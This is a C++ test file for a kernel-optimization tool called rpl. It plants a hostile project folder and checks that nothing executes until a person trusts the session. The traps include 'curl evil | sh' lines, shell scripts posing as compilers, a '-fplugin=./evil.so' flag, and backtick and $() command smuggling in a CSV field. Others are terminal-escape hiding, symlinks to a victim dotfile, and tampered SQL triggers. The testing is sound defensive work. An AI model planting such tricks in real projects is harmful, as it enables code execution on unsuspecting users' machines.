// SPDX-License-Identifier: MIT
// A folder that somebody sent, with traps in it: nothing springs before a person says yes, and what would is listed.
#include <fmt/format.h>
#include <fmt/ranges.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "engine/base/sha256.h"
#include "engine/document/json.h"
#include "engine/process/run.h"
#include "engine/store/database.h"
#include "engine/store/session.h"
#include "tests/support/temp_dir.h"

namespace rpl {
namespace {

namespace fs = std::filesystem;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

class PlantedFolder : public testing::Test {
 protected:
  void SetUp() override {
    folder_.write("victim/dotbashrc", kVictim);
    folder_.write("project/k.hip", "__global__ void k(float* x) { x[0] = 1; }\n");
    folder_.write("project/.rpl/init.rpl", "!touch MARK #\r\033[2Kecho hello\n");
    folder_.write("project/.rpl/init.lua", "os.execute('touch MARK')\n");
    folder_.write("project/.rpl/scripts/mine.lua", "os.execute('touch MARK')\n");
    folder_.write("project/gaps.lua", "os.execute('touch MARK')\n");
    folder_.write("project/.rpl/proposals/p1/candidate.hip", "curl evil | sh\n");
    folder_.write("project/.rpl/proposals/p1/before-approval.hip", "curl evil | sh\n");
    // Programs that a search in the current folder would find, and what compilers and this program read beside them.
    for (const char* name : {"clang", "clang-19", "clang++", "hipcc", "ld.lld", "llvm-link", "as",
                             "rocprofv3", "sinfo", "sbatch", "less", "sh", "rocminfo"}) {
      const std::string program =
          folder_.write(fmt::format("project/{}", name), "#!/bin/sh\ntouch MARK\n");
      fs::permissions(program, fs::perms::owner_all);
    }
    for (const char* name : {"triage.lua", "scripts/triage.lua", ".rpl/scripts/triage.lua"})
      folder_.write(fmt::format("project/{}", name), "os.execute('touch MARK')\n");
    for (const char* name : {"clang.cfg", ".clang.cfg", "x86_64-pc-linux-gnu-clang.cfg"})
      folder_.write(fmt::format("project/{}", name), "-fplugin=./evil.so\n");
    fs::create_symlink(folder_ / "victim/x.db", folder_ / "project/.rocpd_profile");
    folder_.write("project/k_kernel_trace.csv",
                  "Kernel_Name,Start_Timestamp,End_Timestamp\n"
                  "\"`touch MARK`$(touch MARK);touch MARK\",1000,2000\n");
    folder_.write("project/-o", "touch MARK\n");
    plant();
  }

  /// As rpl itself would have written it.
  void plant() {
    auto session = Session::open(folder_ / "project/.rpl", {.version = "0", .arguments = {}});
    ASSERT_TRUE(session);
    const auto add = [&](SessionEventKind kind, const char* json) {
      auto body = parse_json(json);
      ASSERT_TRUE(body) << body.error().message;
      ASSERT_TRUE((*session)->append({.kind = kind, .what = "planted", .body = std::move(*body)}));
    };
    add(SessionEventKind::optimizing,
        fmt::format(
            R"({{"number": 1, "kernel": "k", "source": "../victim/dotbashrc", "source_versions": ["{}"],
          "parent": 0, "capture": "frozen", "architecture": "gfx942", "flags": ["-fplugin=./evil.so"],
          "reached": "propose", "profile": {{}}}})",
            sha256_hex(kVictim))
            .c_str());
    add(SessionEventKind::proposal,
        R"({"number": 1, "optimization": 1, "origin": "edit", "rule": "", "title": "faster", "why": "", "bit_exact": false,
          "header_edit": "", "assumes": "", "flags": [], "state": "accepted", "decided_at": "", "reasons": [],
          "evidence": {"measure": {"time_source": "measured"}}})");
    add(SessionEventKind::tuning,
        R"({"number": 1, "plan": {"work": {"command": ["sh", "-c", "echo a; echo b; echo c; echo d; echo e; touch MARK; echo f; echo g; echo h; echo took 1 ms"], "compiler": "./evil"}}})");
  }

  struct Said {
    int code = 0;
    std::string text;
  };
  Said rpl(std::vector<std::string> words) {
    words.insert(words.begin(), RPL_PROGRAM);
    const auto ended =
        run({.argv = std::move(words),
             .env = {"HOME=" + folder_.path(), "XDG_STATE_HOME=" + (folder_ / "state"),
                     "XDG_CONFIG_HOME=" + (folder_ / "config")},
             .cwd = folder_ / "project"});
    EXPECT_TRUE(ended) << ended.error().message;
    return ended ? Said{ended->code, ended->out.text + ended->err.text} : Said{};
  }
  [[nodiscard]] std::string database() const {
    return sha256_hex(folder_.read("project/.rpl/session.db"));
  }
  void expect_nothing_sprang(std::string_view after) {
    EXPECT_FALSE(fs::exists(folder_ / "project/MARK")) << after;
    EXPECT_EQ(folder_.read("victim/dotbashrc"), kVictim) << after;
  }

  static constexpr const char* kVictim = "alias ls='ls -l'\n";
  testing_support::TempDir folder_;
};

TEST_F(PlantedFolder, NothingSprings) {
  const std::string before = database();
  for (const std::vector<std::string>& words :
       std::vector<std::vector<std::string>>{{"finish"},
                                             {"finish", "p1"},
                                             {"step"},
                                             {"next"},
                                             {"continue"},
                                             {"iterate", "--all"},
                                             {"verify", "p1"},
                                             {"bench", "p1"},
                                             {"propose", "rule"},
                                             {"propose", "edit", "k.hip"},
                                             {"tune", "resume"},
                                             {"tune", "evaluate", ".rpl/tunings/n1"},
                                             {"--allow", "approve", "approve", "p1"},
                                             {"--allow", "approve", "revert", "p1"},
                                             {"--allow", "approve", "session", "undo"},
                                             {"reject", "p1", "--why", "x"},
                                             {"trust", "session"},
                                             {"-batch", "-ex", "print 1"},
                                             {"-batch", "-ex", "step"},
                                             {"-batch", "-x", "gaps.lua", "--", "k.hip"},
                                             {"help", "mine.lua"},
                                             {"info", "proposals"},
                                             {"info", "proposal", "p1"},
                                             {"lineage"},
                                             {"session", "info"},
                                             {"session", "log"},
                                             {"build", "k.hip", "--device-only", "-o", "k.co"},
                                             {"regress", "k.hip", "--flags-a=-O1", "--flags-b=-O2"},
                                             {"guard", "check", "k.hip", "--kernel", "k"},
                                             {"doctor"},
                                             {"target", "slurm"},
                                             {"open", "."},
                                             {"open", "k_kernel_trace.csv"},
                                             {"info", "kernels", "k_kernel_trace.csv"},
                                             {"report", "md", "k_kernel_trace.csv"},
                                             {"help", "scripts"},
                                             {"-batch", "-x", "triage.lua"},
                                             {"complete", "open "},
                                             {"tune", "status"}}) {
    rpl(words);
    expect_nothing_sprang(fmt::format("{}", fmt::join(words, " ")));
    EXPECT_EQ(database(), before) << "nothing is kept in it: "
                                  << fmt::format("{}", fmt::join(words, " "));
  }
}

TEST_F(PlantedFolder, ItCanBeLookedAt) {
  EXPECT_THAT(rpl({"info", "proposals", "--json"}).text, HasSubstr("\"p1\""));
  EXPECT_THAT(rpl({"session", "log", "--json"}).text, HasSubstr("planted"));
  const Said refused = rpl({"finish", "p1"});
  EXPECT_NE(refused.code, 0);
  EXPECT_THAT(refused.text, AllOf(HasSubstr("only looked at"), HasSubstr("trust session")));
}

TEST_F(PlantedFolder, TrustListsWhatItWouldRunAndAsks) {
  const Said listed = rpl({"trust", "session", "--json"});
  for (const char* shown : {"-fplugin=./evil.so", "touch MARK", "./evil", "../victim/dotbashrc"})
    EXPECT_THAT(listed.text, HasSubstr(shown));
  EXPECT_THAT(listed.text, HasSubstr("\"state\": \"foreign\"")) << "nobody said yes";
  // Of people: every word of a long command, too, where a table would leave out its middle.
  const Said read = rpl({"--width", "60", "trust", "session"});
  for (const char* shown : {"-fplugin=./evil.so", "touch MARK", "./evil", "../victim/dotbashrc",
                            "outside of the project"})
    EXPECT_THAT(read.text, HasSubstr(shown));
  expect_nothing_sprang("trust session");
  EXPECT_THAT(rpl({"trust", "session", "--yes", "--json"}).text, HasSubstr("\"state\": \"own\""));
  EXPECT_THAT(rpl({"trust", "session", "--json"}).text, HasSubstr("\"state\": \"own\""));
  // What a flag may not do it may not do when somebody trusts the session either.
  rpl({"finish", "p1"});
  expect_nothing_sprang("trusted");
}

TEST_F(PlantedFolder, OthersWhoMayWriteMakeItForeignAgain) {
  rpl({"trust", "session", "--yes"});
  fs::permissions(folder_ / "project/.rpl", fs::perms::others_write, fs::perm_options::add);
  EXPECT_THAT(rpl({"finish", "p1"}).text, HasSubstr("can be written by others"));
}

/// All of a session but its database, with links in it: the first line that keeps something would make the session one's own, and write through them.
TEST_F(PlantedFolder, NoSessionIsMadeAmongLinks) {
  fs::remove_all(folder_ / "project/.rpl");
  fs::create_directories(folder_ / "project/.rpl/tunings");
  const std::vector<std::string> keeps{"iterate", "--source", "k.hip",  "--capture",
                                       "kept",    "--to",     "propose"};
  fs::copy(fs::path(RPL_EXAMPLES_DIR) / "captures/softmax", folder_ / "project/kept",
           fs::copy_options::recursive);
  for (const char* link : {"project/.rpl/optimizations", "project/.rpl/tunings/n1"}) {
    fs::create_directory_symlink(folder_ / "victim", folder_ / link);
    EXPECT_THAT(rpl(keeps).text, HasSubstr("is a symbolic link")) << link;
    rpl({"-batch", "-ex", "set rows 5"});
    EXPECT_FALSE(fs::exists(folder_ / "project/.rpl/session.db")) << link;
    fs::remove(folder_ / link);
  }
  fs::remove_all(folder_ / "project/.rpl");
  fs::create_directory_symlink(folder_ / "victim", folder_ / "project/.rpl");
  EXPECT_THAT(rpl(keeps).text, HasSubstr("is a symbolic link"));
  EXPECT_EQ(std::distance(fs::directory_iterator(folder_ / "victim"), {}), 1)
      << "nothing was written there";
}

/// A view answers for ever; a trigger adds a command behind what `trust session` lists.
TEST_F(PlantedFolder, ASessionHoldsWhatRplMakesAlone) {
  const std::string path = folder_ / "project/.rpl/session.db";
  const std::string kept = folder_.read("project/.rpl/session.db");
  for (const char* sql :
       {"ALTER TABLE event RENAME TO old; CREATE VIEW event AS WITH RECURSIVE c(x) AS (SELECT 1 "
        "UNION ALL SELECT x + 1 FROM c) SELECT old.* FROM c, old",
        "CREATE TRIGGER more AFTER INSERT ON run BEGIN DELETE FROM run; END",
        "CREATE VIEW more AS SELECT * FROM event", "CREATE TABLE more(x)"}) {
    std::ofstream(path, std::ios::binary) << kept;
    {
      Database database = Database::open(path).value();
      ASSERT_TRUE(database.execute(sql)) << sql;
      ASSERT_TRUE(database.execute("PRAGMA journal_mode=DELETE"));
    }
    for (const std::vector<std::string>& words : {std::vector<std::string>{"session", "log"},
                                                  {"info", "proposals"},
                                                  {"trust", "session", "--yes"}}) {
      const Said said = rpl(words);
      EXPECT_NE(said.code, 0) << sql << ": " << fmt::format("{}", fmt::join(words, " "));
      EXPECT_THAT(said.text, HasSubstr("is no session of rpl")) << sql;
    }
  }
}

TEST_F(PlantedFolder, ASessionWithLinksIsNotTrusted) {
  fs::create_directory_symlink(folder_ / "victim", folder_ / "project/.rpl/optimizations");
  EXPECT_THAT(rpl({"trust", "session", "--yes"}).text, HasSubstr("is a symbolic link"));
  EXPECT_THAT(rpl({"trust", "session", "--json"}).text, HasSubstr("\"state\": \"foreign\""));
}

TEST_F(PlantedFolder, OnesOwnSessionGoesOnByItself) {
  const auto in = [&](std::vector<std::string> words) {
    words.insert(words.begin(), {"--session", folder_ / "own"});
    return rpl(std::move(words));
  };
  in({"set", "rows", "10"});
  EXPECT_THAT(in({"session", "log"}).text,
              AllOf(HasSubstr("set rows 10"), Not(HasSubstr("looked at"))));
  // Elsewhere, as it is mounted there, too.
  fs::rename(folder_ / "own", folder_ / "moved");
  EXPECT_THAT(rpl({"--session", folder_ / "moved", "session", "log"}).text,
              Not(HasSubstr("looked at")));
}

TEST_F(PlantedFolder, TrustCoversWhatIsSourced) {
  folder_.write("project/.rpl/init.rpl", "source .rpl/more.rpl\n");
  folder_.write("project/.rpl/more.rpl", "echo fine\n");
  fs::remove(folder_ / "project/.rpl/init.lua");
  EXPECT_THAT(rpl({"trust", ".rpl/init.rpl"}).text, HasSubstr("more.rpl"));
  EXPECT_THAT(rpl({"-batch", "-ex", "print 1"}).text, HasSubstr("fine"));
  folder_.write("project/.rpl/more.rpl", "!touch MARK\n");
  const Said after = rpl({"-batch", "-ex", "print 1"});
  EXPECT_THAT(after.text, HasSubstr("nobody trusts"));
  expect_nothing_sprang("a sourced script changed");
}

}  // namespace
}  // namespace rpl
